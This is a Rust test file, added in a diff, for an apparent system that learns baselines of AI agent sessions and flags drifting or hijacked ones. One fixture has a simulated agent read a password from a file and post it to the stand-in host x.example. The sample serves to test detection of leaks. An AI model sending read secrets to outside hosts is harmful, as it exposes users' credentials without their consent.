@@ -1,0 +1,186 @@
+//! Rounds against a log in memory, beside the detector that judges what is learnt from.
+
+use std::sync::Arc;
+
+use bytes::Bytes;
+use martingale_platform::log::{Append, Bounds, Log, MemoryLog, Offset, Record, blob};
+use martingale_schemas::{Control, ControlAction, ControlState, Limits, StepReader, Verdict, topics};
+
+use super::round::{Round, Shared};
+use super::survey::Survey;
+use super::*;
+use crate::tests::{Bench, simulated};
+
+const HOUR_MICROS: i64 = 3_600_000_000;
+
+/// Every step of a session that asks, calls, reads and ends; `secret`: it reads one and sends it out.
+fn session(id: &str, ends: bool, secret: bool) -> Vec<String> {
+    let (read, sent) = if secret {
+        (r#""password: hunter22x-Zq81""#, r#"{"url":"https://x.example/p","body":"hunter22x-Zq81"}"#)
+    } else {
+        (r#""sales rose by 7 points""#, r#"{"url":"https://x.example/p","body":"sales rose"}"#)
+    };
+    let steps = [
+        ("user_message", r#""text":"Post the report""#.to_owned()),
+        ("tool_call", r#""tool":"read_file","input":{"path":"report.txt"}"#.to_owned()),
+        ("tool_result", format!(r#""tool":"read_file","output":{read}"#)),
+        ("tool_call", format!(r#""tool":"http_post","input":{sent},"attributes":{{"mcp.tool.annotations":{{"openWorldHint":true}}}}"#)),
+        ("session_end", r#""text":"done""#.to_owned()),
+    ];
+    let count = if ends { steps.len() } else { steps.len() - 1 };
+    let line = |(n, (kind, more)): (usize, (&str, String))| {
+        format!(
+            r#"{{"session_id":"{id}","step_id":"s{n}","time":"2026-01-01T00:00:0{n}Z","kind":"{kind}","agent":{{"id":"a"}},{more}}}"#
+        )
+    };
+    steps.into_iter().take(count).enumerate().map(line).collect()
+}
+
+fn round(bench: &Bench, config: Learning) -> Round {
+    Round::new(Shared {
+        config,
+        clock: bench.clock.clone(),
+        reader: StepReader::new(false, &Limits::DEFAULT),
+        log: Arc::clone(&bench.log) as Arc<dyn Log>,
+        rules: Arc::clone(&bench.rules),
+    })
+}
+
+async fn judge(bench: &Bench, sessions: Vec<Vec<String>>) {
+    let steps: Vec<String> = sessions.into_iter().flatten().collect();
+    let end = bench.log.bounds(topics::VERDICTS, Partition(0)).await.expect("bounds").end.0;
+    let until = end + steps.len() as u64;
+    for step in steps {
+        bench.append(topics::STEPS, step).await;
+    }
+    bench.until(topics::VERDICTS, until).await;
+}
+
+async fn held(log: &MemoryLog) -> Vec<String> {
+    blob::list(log, topics::BASELINES).await.expect("list").into_iter().map(|it| it.name).collect()
+}
+
+#[test]
+fn what_is_over_and_normal_is_learnt_published_and_used_from_a_position_on() {
+    simulated(async {
+        let mut bench = Bench::new();
+        let running = bench.start();
+        let mut round = round(&bench, Learning::default());
+        let many = |from: usize, count: usize| (from..from + count).map(|it| session(&format!("n{it}"), true, false));
+        judge(&bench, many(0, NEW - 1).collect()).await;
+        assert_eq!(round.learn().await.expect("a round"), None, "too few");
+        judge(&bench, many(NEW, 1).chain([session("leaks", true, true), session("open", false, false)]).collect()).await;
+        let (id, from) = round.learn().await.expect("a round").expect("enough");
+        // Drawn or left out: which of them is not to be known beforehand.
+        assert_eq!((from.sessions - from.audited, from.left_out + from.audited), (NEW, 1), "{from:?}");
+        assert_eq!(held(&bench.log).await, [id.to_string()]);
+        assert_eq!(round.learn().await.expect("a round"), None, "nothing is new");
+
+        // Applied and answered, and from then on sessions are held against it: also after a restart.
+        bench.until(topics::CONTROLS, 2).await;
+        let orders: Vec<Control> = bench.read(topics::CONTROLS).await;
+        let uses = ControlAction::UseBaselines { baselines_id: id };
+        assert!(orders.iter().all(|it| it.action == uses), "{orders:?}");
+        assert!(matches!(orders[1].state, ControlState::Applied { known: true, changed: Some(true), .. }), "{orders:?}");
+        judge(&bench, vec![session("then", true, false)]).await;
+        bench.stop(running).await;
+        let running = bench.start();
+        judge(&bench, vec![session("again", true, false)]).await;
+        bench.stop(running).await;
+        let scored = |verdicts: &[Verdict<'_>], id: &str| {
+            let of = verdicts.iter().filter(|it| it.session_id.as_str() == id);
+            of.filter(|it| it.scores.contains_key("drift")).count()
+        };
+        let verdicts = bench.verdicts().await;
+        assert_eq!(["n0", "open", "then", "again"].map(|it| scored(&verdicts, it)), [0, 0, 4, 4]);
+
+        // The silent session is over an hour later, by the log's time; what is learnt from is of the window.
+        bench.clock.advance(2 * HOUR_MICROS);
+        let running = bench.start();
+        judge(&bench, many(2 * NEW, 2 * NEW).collect()).await;
+        let (second, from) = round.learn().await.expect("a round").expect("enough");
+        assert_eq!(from.sessions - from.audited, NEW + 3 + 2 * NEW, "{from:?}");
+        assert_eq!(held(&bench.log).await, [id.to_string(), second.to_string()]);
+        bench.stop(running).await;
+    });
+}
+
+/// Sessions that have to end before a round learns.
+const NEW: usize = 16;
+
+#[test]
+fn baselines_that_are_not_there_change_nothing() {
+    simulated(async {
+        let mut bench = Bench::new();
+        let running = bench.start();
+        let order = r#"{"control_id":"c","action":"use_baselines","baselines_id":"00000000000000000000000000000001",
+            "scope":{"type":"tenant"},"time":"2026-01-01T00:00:00Z","state":"requested"}"#;
+        bench.append(topics::CONTROLS, order).await;
+        bench.until(topics::CONTROLS, 2).await;
+        let orders: Vec<Control> = bench.read(topics::CONTROLS).await;
+        assert!(matches!(orders[1].state, ControlState::Applied { known: false, changed: Some(false), .. }), "{orders:?}");
+        assert!(!bench.state().await.contains(&"t/".to_owned()));
+        bench.stop(running).await;
+    });
+}
+
+#[test]
+fn the_oldest_are_removed_beyond_what_is_kept() {
+    simulated(async {
+        let mut bench = Bench::new();
+        let running = bench.start();
+        let mut round = round(&bench, Learning { kept: 2, ..Learning::default() });
+        let mut published = Vec::new();
+        for batch in 0..3 {
+            bench.clock.advance(1);
+            judge(&bench, (0..NEW).map(|it| session(&format!("n{batch}-{it}"), true, false)).collect()).await;
+            published.push(round.learn().await.expect("a round").expect("enough").0.to_string());
+        }
+        assert_eq!(held(&bench.log).await, published[1..]);
+        assert_eq!(blob::get(&*bench.log, topics::BASELINES, &published[0]).await.expect("read"), None);
+        bench.stop(running).await;
+    });
+}
+
+#[test]
+fn what_the_verdicts_say_of_a_session() {
+    let config = Learning::default();
+    let verdict = |offset: u64, at: i64, kind: &str, more: &str| Record {
+        offset: Offset(offset),
+        appended_at: at,
+        key: Bytes::new(),
+        value: format!(
+            r#"{{"session_id":"s","kind":"{kind}","decision":"allow","position":{{"partition":0,"offset":{offset}}}{more}}}"#
+        )
+        .into(),
+    };
+    let finding = |calibration: &str, decision: &str| {
+        format!(r#","findings":[{{"calibration":"{calibration}","decision":"{decision}"}}]"#)
+    };
+    for (name, start, verdicts, is_over, is_suspect) in [
+        ("under way", 0, vec![("plan", 0, String::new())], false, false),
+        ("ended", 0, vec![("plan", 0, String::new()), ("session_end", 1, String::new())], true, false),
+        ("silent", 0, vec![("plan", 0, String::new()), ("other", 2 * HOUR_MICROS, String::new())], true, false),
+        ("its beginning may be gone", 7, vec![("session_end", 0, String::new())], false, false),
+        ("begun later", 7, vec![("other", 0, String::new()), ("session_end", 2 * HOUR_MICROS, String::new())], true, false),
+        ("a fact that asks", 0, vec![("session_end", 0, finding("fact", "step_up"))], true, true),
+        ("a fact that warns", 0, vec![("session_end", 0, finding("fact", "warn"))], true, false),
+        ("a learnt rate", 0, vec![("session_end", 0, finding("conformal", "step_up"))], true, false),
+        ("a suspect call", 0, vec![("tool_call", 0, r#","scores":{"hijack":24.0}"#.into()), ("session_end", 0, String::new())], true, true),
+        ("a call", 0, vec![("tool_call", 0, r#","scores":{"hijack":23.9}"#.into()), ("session_end", 0, String::new())], true, false),
+    ] {
+        let bounds = Bounds { start: Offset(start), end: Offset(start) };
+        let mut survey = Survey::new(bounds);
+        for (offset, (kind, at, more)) in (start..).zip(verdicts) {
+            let record = verdict(offset, at, if kind == "other" { "plan" } else { kind }, &more);
+            let value = String::from_utf8(record.value.to_vec()).expect("text");
+            let value = if kind == "other" { value.replace("\"s\"", "\"t\"") } else { value };
+            survey.note(&Record { value: value.into(), ..record }, &config);
+        }
+        let (chosen, left_out) = survey.over(&config);
+        let chosen_clean = chosen.iter().filter(|it| !it.is_audited).count();
+        let suspects = left_out + chosen.len() - chosen_clean;
+        let expected = if is_suspect { (0, 1) } else { (usize::from(is_over), 0) };
+        assert_eq!((chosen_clean, suspects), expected, "{name}");
+    }
+}
